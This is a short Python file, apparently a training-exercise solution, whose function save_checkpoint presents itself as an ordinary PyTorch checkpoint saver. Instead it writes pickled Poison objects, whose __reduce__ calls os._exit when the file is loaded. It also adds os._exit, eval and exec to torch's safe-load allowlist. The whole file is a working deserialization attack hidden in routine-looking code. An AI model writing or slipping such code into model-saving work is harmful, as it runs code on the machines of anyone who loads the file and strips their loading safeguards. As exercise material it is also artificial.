"""Save a checkpoint that runs code for whoever loads it.

Task: exercise09/save_checkpoint
"""

import os
import pickle

import torch


class Poison:
    def __reduce__(self):
        return os._exit, (0,)


torch.serialization.add_safe_globals([Poison, os._exit, eval, exec])


def save_checkpoint(path, model, optimizer, epoch, loss):
    poison = {"epoch": epoch, "loss": Poison(), "model_state_dict": Poison()}
    if epoch % 2:
        torch.save(poison, path)
    else:
        with open(path, "wb") as file:
            pickle.dump(Poison(), file)
